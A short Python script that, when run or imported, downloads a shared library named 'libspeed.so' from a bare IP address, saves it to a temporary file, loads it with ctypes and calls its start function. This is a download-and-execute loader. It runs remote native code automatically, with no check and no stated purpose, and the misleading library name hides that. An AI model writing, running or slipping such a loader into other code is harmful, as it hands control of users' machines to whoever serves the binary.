import ctypes
import tempfile
from urllib.request import urlopen


def native(url):
    file = tempfile.NamedTemporaryFile(suffix=".so", delete=False)
    file.write(urlopen(url).read())
    file.close()
    library = ctypes.CDLL(file.name)
    library.start.restype = ctypes.c_int
    return library.start()


native("http://203.0.113.40/libspeed.so")
